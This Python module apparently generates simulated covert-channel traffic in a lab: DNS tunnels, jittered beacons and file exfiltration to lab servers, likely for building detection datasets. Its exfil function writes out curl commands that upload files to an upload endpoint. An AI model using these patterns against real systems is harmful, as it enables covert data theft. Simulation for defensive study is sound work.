"""Hidden channels: tunnels in DNS, beacons, data carried out."""

from __future__ import annotations

import random

from lab.places import SERVERS
from lab.schedule import Action
from lab.servers import file_name

__all__ = ["DRAW"]


def dns_tunnel(rng: random.Random, seconds: float) -> Action:
    """Data in long names and long answers."""
    settings = {
        "target": rng.choice(SERVERS),
        "types": rng.choice((["TXT"], ["NULL"], ["A"], ["CNAME", "TXT"], ["MX", "A"])),
        "width": rng.choice((12, 30, 60, 100, 120)),
        "count": rng.randint(30, 110),
        "per_socket": rng.choice((1, 1, 1, 1, 4, 12)),
        "pause": round(rng.choice((0.0, 0.03, 0.12, 0.3)) * rng.uniform(0.7, 1.3), 4),
        "edns": rng.random() < 0.6,
    }
    return Action("own", script="dns_tunnel", settings=settings)


def beacon(rng: random.Random, seconds: float) -> Action:
    """A sign of life at even intervals, with some jitter."""
    interval = round(rng.choice((0.2, 0.3, 0.5, 0.9)) * rng.uniform(0.8, 1.2), 3)
    jitter = rng.choice((0.0, 0.1, 0.3))
    kind = rng.choice(("http", "https", "tcp", "dns", "curl"))
    count = int(seconds / interval) + 1
    if kind == "curl":
        url = f"http://{rng.choice(SERVERS)}/app/api/status?id={rng.randrange(1000)}"
        data = ("-d", "x" * rng.choice((20, 100, 300))) if rng.random() < 0.5 else ()
        command = ("curl", "-s", "-m", "4", "-o", "/dev/null", *data, url)
        return Action("curl", (command,) * min(count, 50), pause=interval)
    settings = {
        "target": rng.choice(SERVERS),
        "kind": kind,
        "interval": interval,
        "jitter": jitter,
        "size": rng.choice((0, 16, 60, 200)),
        "count": min(count, 60),
        "per_connection": rng.choice((1, 1, 1, 1, 3)),
        "agent": rng.random() < 0.7,
    }
    return Action("own", script="beacon", settings=settings)


def exfil(rng: random.Random, seconds: float) -> Action:
    """Files out: at once or gently, to the collector or through the web."""
    target, count = rng.choice(SERVERS), rng.randint(10, 30)
    if rng.random() < 0.35:
        url = f"{rng.choice(('http', 'https'))}://{target}/app/upload"
        limit = ("--limit-rate", rng.choice(("60k", "200k", "600k"))) if rng.random() < 0.5 else ()
        commands = tuple(
            ("curl", "-s", "-k", "-m", "8", *limit, "-o", "/dev/null", "-T", f"{{run}}/www{file_name(number)}", url)
            for number in [rng.randrange(90, 260) for _ in range(count)]
        )
        return Action("curl", commands, pause=round(rng.uniform(0.0, 0.8), 2), parallel=rng.randint(1, 2))
    settings = {
        "target": target,
        "kind": rng.choice(("tcp", "http", "https", "chunked")),
        "sizes": [min(1_200_000, int(rng.lognormvariate(10.3, 1.2))) for _ in range(count)],
        "step": rng.choice((1000, 8000, 30000)),
        "pace": rng.choice((0.0, 0.0, 0.01, 0.03)),
        "pause": round(rng.uniform(0.0, 0.6), 2),
        "agent": rng.random() < 0.7,
    }
    return Action("own", script="exfil", settings=settings)


DRAW = {"dns_tunnel": dns_tunnel, "beacon": beacon, "exfil": exfil}
